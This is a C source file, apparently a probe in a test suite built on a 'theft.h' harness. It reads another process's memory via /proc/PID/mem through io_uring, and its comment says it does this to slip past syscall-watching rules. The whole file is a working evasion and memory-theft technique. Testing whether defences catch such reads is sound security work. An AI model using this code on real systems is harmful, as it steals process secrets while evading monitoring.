/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Let the kernel's own io_uring read /proc/PID/mem, where rules about system calls do not look. */
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "theft.h"

struct ring {
	int fd, mem;
	uint8_t *sq, *cq;
	struct io_uring_sqe *sqe;
	struct io_uring_params p;
};

static uint32_t *
word(uint8_t *ring, uint32_t offset)
{
	return (uint32_t *)(void *)(ring + offset);
}

static ssize_t
from_ring(void *arg, uint64_t address, void *buffer, size_t length)
{
	struct ring *r = arg;
	uint32_t tail = *word(r->sq, r->p.sq_off.tail);
	uint32_t slot = tail & *word(r->sq, r->p.sq_off.ring_mask);
	struct io_uring_cqe *cqe = NULL;
	uint32_t head = 0;

	memset(&r->sqe[slot], 0, sizeof(r->sqe[slot]));
	r->sqe[slot].opcode = IORING_OP_READ;
	r->sqe[slot].flags = IOSQE_ASYNC; /* by a worker of the kernel */
	r->sqe[slot].fd = r->mem;
	r->sqe[slot].addr = (uintptr_t)buffer;
	r->sqe[slot].len = (uint32_t)length;
	r->sqe[slot].off = address;
	word(r->sq, r->p.sq_off.array)[slot] = slot;
	__atomic_store_n(word(r->sq, r->p.sq_off.tail), tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	head = *word(r->cq, r->p.cq_off.head);
	cqe = (struct io_uring_cqe *)(void *)(r->cq + r->p.cq_off.cqes);
	cqe += head & *word(r->cq, r->p.cq_off.ring_mask);
	__atomic_store_n(word(r->cq, r->p.cq_off.head), head + 1, __ATOMIC_RELEASE);
	return cqe->res;
}

static void *
map(int fd, size_t size, off_t offset)
{
	void *at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, offset);

	if (at == MAP_FAILED)
		theft_cannot("map the ring: %m");
	return at;
}

int
main(int argc, char **argv)
{
	static struct ring r;
	static struct theft t;
	char path[64];

	theft_begin(&t, argc, argv);
	r.fd = (int)syscall(SYS_io_uring_setup, 4, &r.p);
	if (r.fd < 0)
		theft_cannot("io_uring_setup: %m");
	r.sq = map(r.fd, r.p.sq_off.array + r.p.sq_entries * 4, IORING_OFF_SQ_RING);
	r.cq = map(r.fd, r.p.cq_off.cqes + r.p.cq_entries * sizeof(struct io_uring_cqe),
		   IORING_OFF_CQ_RING);
	r.sqe = map(r.fd, r.p.sq_entries * sizeof(struct io_uring_sqe), IORING_OFF_SQES);
	snprintf(path, sizeof(path), "/proc/%d/mem", t.pid);
	r.mem = open(path, O_RDONLY | O_CLOEXEC);
	if (r.mem < 0)
		theft_refused("open %s: %m", path);
	theft_copy_all(&t, from_ring, &r);
	theft_end(&t, "io_uring read of mem");
}
